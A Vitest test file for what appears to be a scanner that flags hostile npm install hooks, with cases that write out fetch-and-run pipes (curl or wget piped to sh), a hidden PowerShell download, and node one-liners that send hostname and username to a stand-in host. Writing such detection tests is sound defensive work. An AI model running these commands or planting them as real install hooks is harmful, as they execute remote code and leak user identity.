import { expect, test } from 'vitest';
import { findingsOf, manifestWith } from '../test/findings-of.ts';

async function tierOf(
  scripts: Record<string, string>,
  files: Record<string, string> = {},
): Promise<string | null> {
  const findings = await findingsOf({ 'package.json': manifestWith(scripts), ...files });
  return findings.find((finding) => finding.includes('malware.install-script'))?.split(' ')[0] ?? null;
}

test.each([
  ['curl -s https://a.example/x | sh', 'block'],
  ['wget -qO- https://a.example/x | bash', 'block'],
  ['curl -X POST -d "$(whoami)@$(hostname)" https://a.example', 'block'],
  ['curl https://a.example/?u=$USER', 'block'],
  ['powershell -w hidden -c "iwr https://a.example/x.exe -OutFile x.exe"', 'block'],
  [
    `node -e "require('https').get('https://a.example/'+require('os').hostname()+require('os').userInfo().username)"`,
    'block',
  ],
  ['curl -o data.zip https://a.example/data.zip', 'review'],
  [`node -e "require('https').get('https://a.example/ping')"`, 'review'],
  [`node -e "require('child_process').exec('make')"`, 'review'],
  ['node-gyp rebuild', null],
  ['prebuild-install || node-gyp rebuild', null],
  ['node-pre-gyp install --fallback-to-build', null],
  ['husky install', null],
  ['patch-package', null],
  [`node -e "try{require('./postinstall')}catch(e){}"`, null],
  [`node -e "console.log('Thank you for using a')"`, null],
  ['opencollective-postinstall || exit 0', null],
])('the command %s', async (command, tier) => {
  expect(await tierOf({ postinstall: command }, { 'postinstall.js': '' })).toBe(tier);
});

const probe = `const os = require('os'); require('https').request('https://a.example', { method: 'POST' }).end(os.hostname() + os.userInfo().username)`;

test('a probe in the file that a hook runs, or in one that it loads', async () => {
  expect(await tierOf({ preinstall: 'node index.js' }, { 'index.js': probe })).toBe('block');
  expect(
    await tierOf(
      { preinstall: 'node ./scripts/run' },
      { 'scripts/run.js': `require('../lib/x')`, 'lib/x.js': probe },
    ),
  ).toBe('block');
  expect(await tierOf({ test: 'node index.js' }, { 'index.js': probe })).toBeNull();
});

test('a shell script that a hook runs', async () => {
  expect(
    await tierOf({ install: 'sh ./setup.sh' }, { 'setup.sh': 'curl -fsSL https://a.example | sh\n' }),
  ).toBe('block');
  expect(await tierOf({ install: 'bash setup.sh' }, { 'setup.sh': 'make && make install\n' })).toBeNull();
});

test('an installer that downloads a binary is for a person to look at', async () => {
  const installer = `const https = require('https'), fs = require('fs'), cp = require('child_process');
    https.get('https://releases.vendor.example/tool', (r) => r.pipe(fs.createWriteStream('tool')));
    cp.execFileSync('./tool', ['--version'])`;
  expect(await tierOf({ postinstall: 'node install.js' }, { 'install.js': installer })).toBe('review');
});
